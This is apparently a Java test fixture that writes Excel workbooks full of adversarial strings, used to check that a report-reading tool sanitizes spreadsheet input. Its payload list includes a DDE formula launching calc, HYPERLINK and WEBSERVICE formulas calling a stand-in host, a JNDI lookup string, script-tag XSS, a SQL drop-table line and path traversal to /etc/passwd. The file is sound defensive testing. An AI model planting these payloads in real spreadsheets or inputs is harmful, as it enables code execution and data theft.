package rendicion.faults;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Comment;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFClientAnchor;
import org.apache.poi.xssf.usermodel.XSSFRichTextString;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import rendicion.domain.CopyStamp;
import rendicion.domain.Finding;
import rendicion.domain.Severity;
import rendicion.wording.Wording;

/** Texts that do harm in one output or another, wherever an office can put a text. */
final class HostileTexts {

  /**
   * A text and what is left of it once it was read: no controls, no marks of direction, no halves
   * of characters, composed, blanks at the ends gone, at most 2,000 characters.
   */
  record Hostile(String name, String raw, String read) {

    /** As much of it as a folder here can hold, beginning with its beginning. */
    String fileName() {
      StringBuilder kept = new StringBuilder();
      raw.codePoints()
          .limit(50)
          .filter(c -> c != 0 && c != '/' && Character.getType(c) != Character.SURROGATE)
          .forEach(kept::appendCodePoint);
      return kept + ".xlsx";
    }

    /** As much of it as Excel would take, but for the signs that Excel refuses. */
    String sheetName() {
      StringBuilder kept = new StringBuilder();
      raw.codePoints().limit(12).filter(HostileTexts::isOfXml).forEach(kept::appendCodePoint);
      return kept.toString();
    }
  }

  /** Together longer than a file's name may be. */
  private static final String DEEP = ("carpeta de " + "x".repeat(80) + "/").repeat(4);

  private static final int SHEETS = 17;

  /** Of the workbook that is read, so that it stands in receipts and wherever a figure is from. */
  static final String KNOWN_NAME = "=cmd|' {0} '{x}' 👍 _x000D_ ]]>.xlsx";

  static final List<Hostile> ALL =
      List.of(
          same("equals", "=1+1"),
          same("plus", "+51 951 000 000"),
          same("minus", "-2+3+cmd"),
          same("at", "@SUM(A1:A9)"),
          same("full-width", "\uff1dHYPERLINK(\"http://malo.example\")"),
          same("full-width plus", "\uff0b1"),
          new Hostile("tab", "\t=1+1", "=1+1"),
          new Hostile("carriage return", "\r=1+1", "=1+1"),
          new Hostile("line feed", "\n=1+1", "=1+1"),
          same("dde", "=cmd|' /C calc'!A0"),
          same("hyperlink", "=HYPERLINK(\"http://malo.example?\"&A1,\"ver\")"),
          same("web service", "=WEBSERVICE(\"http://malo.example\")"),
          new Hostile("nul", "a\u0000b", "ab"),
          new Hostile("escape sequence", "a\u001b[31mrojo\u001b[0m", "a[31mrojo[0m"),
          new Hostile("bell and backspace", "a\u0007\b\u007fb", "ab"),
          new Hostile("next line", "a\u0085b", "ab"),
          new Hostile("line separators", "a\u2028b\u2029c", "abc"),
          new Hostile("half a character", "a\ud83db", "ab"),
          new Hostile("no character", "a\ufffe\uffffb", "ab"),
          new Hostile("right to left", "\u202egnp.exe", "gnp.exe"),
          new Hostile("isolates", "\u2066a\u2067b\u2069c", "abc"),
          new Hostile("invisible", "a\u200b\ufeff\u00adb", "ab"),
          same("emoji", "👍 conforme"),
          new Hostile("family", "👨\u200d👩\u200d👧 tres", "👨👩👧 tres"),
          same("astral letters", "𝒜gua 𐍈"),
          new Hostile("decomposed", "an\u0303o 2021 A\u0301ncash", "año 2021 Áncash"),
          same("markup", "<b>hola</b><script>alert(1)</script>"),
          same("end of script", "</script><img src=x onerror=alert(1)>"),
          same("end of character data", "]]><x/>"),
          same("entities", "&amp; &#x41; &malo;"),
          same("quotes and commas", "a\",\"b,c;\"\"d"),
          new Hostile("several lines", "uno\r\ndos", "uno dos"),
          new Hostile(
              "forged line",
              "x\n2026-11-25T10:00:00 ERROR Se borró todo",
              "x 2026-11-25T10:00:00 ERROR Se borró todo"),
          same("spelled characters", "_x000D__x000A_=1+1"),
          same("spelled letters", "a_x0041_x0042_b"),
          same("pattern", "{0} {n, plural, other {#}} '{x}'"),
          same("apostrophes", "l'Arc''s '"),
          same("path", "..\\..\\Windows\\x"),
          same("slashes", "../../../etc/passwd"),
          same("share", "\\\\malo.example\\c$\\x"),
          same("lookups", "${jndi:ldap://malo.example/a} #{7*7} %n%s"),
          same("percents", "%0d%0aX: y"),
          same("sql", "'); drop table reading; --"),
          same("yaml", "*a &b !!java [x: {y"),
          same("yaml comment", "a: b # c"),
          same("yaml word", "null"),
          same("private use", "\ue000N1\ue001falso\ue002"),
          same("private bullet", "\uf0b7 punto"),
          new Hostile("very long", numbered("ñ", 30_000), numbered("ñ", 2000)),
          new Hostile("long and astral", numbered("𝒜", 30_000), numbered("𝒜", 2000)));

  /**
   * But for the word that says that there is no answer. So many different ones that all findings
   * about them are shown.
   */
  private static final List<Hostile> ANSWERS =
      ALL.stream().filter(text -> !text.read().equals("null")).toList();

  private HostileTexts() {}

  /** The text again and again with numbers between, so that it does not pack like a bomb. */
  private static String numbered(String text, int length) {
    StringBuilder whole = new StringBuilder();
    for (int i = 0; whole.length() < length; i++) {
      whole.append(text).append(Integer.toString(i * 7919 % 46_656, 36));
    }
    return whole.substring(0, length);
  }

  private static Hostile same(String name, String text) {
    return new Hostile(name, text, text);
  }

  /** Stands in what a file says of itself, which is nobody's business but its office's. */
  static final String OF_THE_FILE = "Autor del archivo ";

  /** Begins a name under an answer, where a text of the same kind stands as the answer. */
  static final String SIGNED = "Ing. ";

  /**
   * As cells: detail, code, month, value and remark of the lines of a workbook that is known, each
   * text beside a line that counts; as comments and their authors; as answers to what is found in
   * these lines, each with a signature; and in what the file says of itself.
   */
  static void writeKnown(Path file) throws IOException {
    try (XSSFWorkbook workbook = new XSSFWorkbook()) {
      Sheet sheet = workbook.createSheet("POI");
      row(sheet, "POI 2021 {0} '{x}' =1+1 \u202e");
      row(sheet);
      row(
          sheet,
          "CODIGO",
          "UNIDAD",
          "MES",
          "META",
          "OBSERVACIONES",
          "=1+1 {0} ]]>\u202e",
          "SUSTENTO");
      row(sheet, "", "", "", "TOTAL");
      for (Hostile text : ALL) {
        row(sheet, "OE01-A01", text.raw, "ENERO", 10, "Se hizo " + text.raw, text.raw, text.raw);
        comment(sheet, text);
        if (ANSWERS.contains(text)) {
          row(sheet, text.raw, "metros", "ENERO", 10);
        }
        row(sheet, "OE01-A01", "metros", text.raw, 10);
        row(sheet, "OE01-A01", "metros", "MARZO", text.raw);
      }
      answers(workbook.createSheet("Respuestas"));
      signFile(workbook);
      write(workbook, file);
    }
  }

  private static void answers(Sheet sheet) {
    row(
        sheet,
        Stream.of("severity", "where", "found", "expected", "remedy", "repair", "answer")
            .map(name -> Wording.spanish().say("feedback.column." + name))
            .toArray());
    String signature = Wording.spanish().say("feedback.copy.signature");
    for (Hostile text : ANSWERS) {
      row(sheet, "", "", "", "", "", "", text.raw, question(text), signature, SIGNED + text.raw);
    }
  }

  /** What will be found about the line that has the text in place of a code. */
  private static String question(Hostile text) {
    Map<String, String> said = Map.of("text", text.read, "suggestion", "", "suggested", "no");
    return CopyStamp.rowText(
        new Finding("reading.unknown-activity", Severity.ERROR, null, "POI", "A1", null, said));
  }

  private static void comment(Sheet sheet, Hostile text) {
    int row = sheet.getLastRowNum();
    Comment comment =
        sheet
            .createDrawingPatriarch()
            .createCellComment(new XSSFClientAnchor(0, 0, 0, 0, 9, row, 11, row + 3));
    comment.setAddress(row, 3);
    comment.setAuthor(spelled(text.raw));
    comment.setString(new XSSFRichTextString(spelled(text.raw)));
  }

  private static void signFile(XSSFWorkbook workbook) {
    String all = ALL.stream().map(Hostile::sheetName).collect(Collectors.joining(" "));
    var about = workbook.getProperties().getCoreProperties();
    about.setCreator(OF_THE_FILE + all);
    about.setLastModifiedByUser(OF_THE_FILE + all);
    about.setTitle(OF_THE_FILE + all);
    about.setDescription(OF_THE_FILE + all);
    workbook.getProperties().getExtendedProperties().setCompany(OF_THE_FILE + all);
  }

  /**
   * As name of sheet, title, headers and cells of workbooks that nobody has described, and as names
   * of files.
   */
  static void writeUnknown(Path folder) throws IOException {
    for (int i = 0; i < ALL.size(); i += SHEETS) {
      Path file = folder.resolve(DEEP + "/" + i + "/" + ALL.get(i).fileName());
      try (XSSFWorkbook workbook = new XSSFWorkbook()) {
        for (Hostile text : ALL.subList(i, Math.min(ALL.size(), i + SHEETS))) {
          unknown(workbook, text, i);
        }
        write(workbook, file);
      }
    }
    for (Hostile text : ALL) {
      Path copy = folder.resolve(text.fileName());
      if (!Files.exists(copy)) {
        Files.writeString(copy, "no es un libro");
      }
    }
  }

  private static void unknown(XSSFWorkbook workbook, Hostile text, int number) {
    int index = workbook.getNumberOfSheets();
    Sheet sheet = workbook.createSheet("x" + index);
    row(sheet, "Cuadro " + text.raw);
    row(sheet);
    row(sheet, "DISTRITO", text.raw, "AÑO", "Personas " + text.raw);
    row(sheet, "Arriba", text.raw, 2021, 10 + number);
    row(sheet, text.raw, "x", 2021, 20);
    row(sheet, "Abajo", "y", 2020, 30);
    workbook
        .getCTWorkbook()
        .getSheets()
        .getSheetArray(index)
        .setName(text.sheetName() + " " + index);
  }

  private static boolean isOfXml(int c) {
    return c >= ' ' && Character.getType(c) != Character.SURROGATE && c != 0xfffe && c != 0xffff;
  }

  private static void row(Sheet sheet, Object... values) {
    Row row = sheet.createRow(sheet.getPhysicalNumberOfRows());
    for (int i = 0; i < values.length; i++) {
      if (values[i] instanceof Number n) {
        row.createCell(i).setCellValue(n.doubleValue());
      } else {
        row.createCell(i).setCellValue(spelled((String) values[i]));
      }
    }
  }

  /** As Excel writes what XML cannot hold, and what would look as if it were so written. */
  private static String spelled(String text) {
    StringBuilder spelled = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean lone =
          Character.isSurrogate(c)
              && !(i + 1 < text.length() && Character.isSurrogatePair(c, text.charAt(i + 1)))
              && !(i > 0 && Character.isSurrogatePair(text.charAt(i - 1), c));
      boolean control = c < ' ' && c != '\n' && c != '\t' || c == 0x7f || c > 0xfffd;
      boolean looksSpelled = text.startsWith("_x", i);
      if (lone || control || looksSpelled) {
        spelled.append("_x%04X_".formatted((int) c));
      } else {
        spelled.append(c);
      }
    }
    return spelled.toString();
  }

  private static void write(XSSFWorkbook workbook, Path file) throws IOException {
    Files.createDirectories(file.getParent());
    try (var out = Files.newOutputStream(file)) {
      workbook.write(out);
    }
  }

  /** The texts as they are read, in their order. */
  static List<String> read() {
    return ALL.stream().map(Hostile::read).toList();
  }

  /** The texts as answers are read. */
  static List<String> answers() {
    return ANSWERS.stream().map(Hostile::read).toList();
  }

  /** The texts as headers that are shown whole. */
  static List<String> shortLabels() {
    return read().stream().filter(text -> text.length() < 100).toList();
  }
}
